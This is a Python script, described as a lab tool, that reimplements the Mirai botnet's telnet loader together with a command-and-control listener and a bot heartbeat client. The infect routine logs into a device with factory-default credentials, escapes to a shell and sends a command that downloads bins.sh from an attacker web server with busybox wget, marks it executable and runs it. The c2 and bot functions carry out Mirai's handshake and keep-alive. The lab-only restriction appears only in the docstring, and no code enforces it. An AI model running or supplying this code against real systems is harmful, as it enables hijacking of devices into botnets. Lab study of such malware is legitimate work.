#!/usr/bin/env python3
"""Mirai-like infection, C2 server and bot heartbeat for the lab.

`infect` does what Mirai's loader does over telnet (loader/src/server.c):
log in with a factory-default credential, type `enable`, `system`, `shell`,
`sh`, check for busybox with `/bin/busybox MIRAI` (expecting "MIRAI: applet
not found"), then fetch the dropper with wget from the attacker's web server.
`c2` is the command-and-control listener; `bot` connects to it the way a
Mirai bot does (bot/main.c: 4-byte hello 00 00 00 01, one id-length byte,
then 2-byte 00 00 keep-alives, which the C2 echoes).

Traffic goes only to addresses passed on the command line (lab namespaces).
"""
import argparse
import socket
import sys
import time

IAC, DONT, DO, WONT, WILL, SB, SE = 255, 254, 253, 252, 251, 250, 240


class Telnet:
    """Just enough telnet: refuse every option, hand back the text."""

    def __init__(self, host, port, timeout=10):
        self.sock = socket.create_connection((host, port), timeout=timeout)
        self.buf = b""

    def _feed(self, data):
        out, i = b"", 0
        while i < len(data):
            b = data[i]
            if b == IAC and i + 1 < len(data):
                cmd = data[i + 1]
                if cmd in (DO, DONT, WILL, WONT) and i + 2 < len(data):
                    opt = data[i + 2]
                    if cmd == DO:
                        self.sock.sendall(bytes([IAC, WONT, opt]))
                    elif cmd == WILL:
                        self.sock.sendall(bytes([IAC, DONT, opt]))
                    i += 3
                    continue
                if cmd == SB:
                    end = data.find(bytes([IAC, SE]), i)
                    i = len(data) if end < 0 else end + 2
                    continue
                i += 2
                continue
            out += bytes([b])
            i += 1
        return out

    def read_until(self, needles, timeout=8.0):
        deadline = time.time() + timeout
        while time.time() < deadline:
            for n in needles:
                pos = self.buf.find(n)
                if pos >= 0:
                    got, self.buf = self.buf[:pos + len(n)], self.buf[pos + len(n):]
                    return got
            self.sock.settimeout(max(0.1, deadline - time.time()))
            try:
                data = self.sock.recv(4096)
            except socket.timeout:
                break
            if not data:
                break
            self.buf += self._feed(data)
        got, self.buf = self.buf, b""
        return got

    def send(self, line):
        self.sock.sendall(line.encode() + b"\r\n")


def infect(a):
    t = Telnet(a.target, a.port)
    t.read_until([b"login:", b"ogin: "])
    t.send(a.user)
    t.read_until([b"assword:"])
    t.send(a.password)
    banner = t.read_until([b"# ", b"$ "])
    if b"incorrect" in banner.lower():
        sys.exit(f"login refused: {banner!r}")
    transcript = [banner]
    for cmd in ["enable", "system", "shell", "sh"]:
        t.send(cmd)
        transcript.append(t.read_until([b"# ", b"$ "], timeout=3))
    t.send("/bin/busybox MIRAI")
    reply = t.read_until([b"applet not found"], timeout=5)
    transcript.append(reply)
    if b"applet not found" not in reply:
        sys.exit("no busybox on target")
    t.read_until([b"# "], timeout=2)
    t.send(f"cd {a.workdir}; /bin/busybox wget http://{a.dropper_host}/bins.sh -O bins.sh; "
           f"/bin/busybox chmod 777 bins.sh; sh bins.sh")
    transcript.append(t.read_until([b"dropper done"], timeout=15))
    t.send("exit")
    time.sleep(0.5)
    t.sock.close()
    sys.stdout.write(b"".join(transcript).decode("latin-1"))
    if b"dropper done" not in transcript[-1]:
        sys.exit("dropper did not run")


def c2(a):
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((a.bind, a.port))
    srv.listen(8)
    while True:
        conn, peer = srv.accept()
        print(f"{time.time():.3f} bot connected from {peer}", flush=True)
        conn.settimeout(120)
        try:
            while True:
                data = conn.recv(64)
                if not data:
                    break
                if data[:2] == b"\x00\x00" and len(data) <= 2:
                    conn.sendall(b"\x00\x00")  # keep-alive echo
        except OSError:
            pass
        conn.close()


def bot(a):
    while True:
        try:
            s = socket.create_connection((a.c2, a.port), timeout=10)
            s.sendall(b"\x00\x00\x00\x01")
            s.sendall(bytes([len(a.bot_id)]) + a.bot_id.encode())
            while True:
                time.sleep(a.interval)
                s.sendall(b"\x00\x00")
                s.recv(2)
        except OSError:
            time.sleep(2)


def main():
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="cmd", required=True)
    i = sub.add_parser("infect")
    i.add_argument("--target", required=True)
    i.add_argument("--port", type=int, default=23)
    i.add_argument("--user", required=True)
    i.add_argument("--password", required=True)
    i.add_argument("--dropper-host", required=True)
    i.add_argument("--workdir", required=True)
    c = sub.add_parser("c2")
    c.add_argument("--bind", required=True)
    c.add_argument("--port", type=int, default=23)
    b = sub.add_parser("bot")
    b.add_argument("--c2", required=True)
    b.add_argument("--port", type=int, default=23)
    b.add_argument("--interval", type=float, default=5)
    b.add_argument("--bot-id", default="")
    a = p.parse_args()
    {"infect": infect, "c2": c2, "bot": bot}[a.cmd](a)


if __name__ == "__main__":
    main()
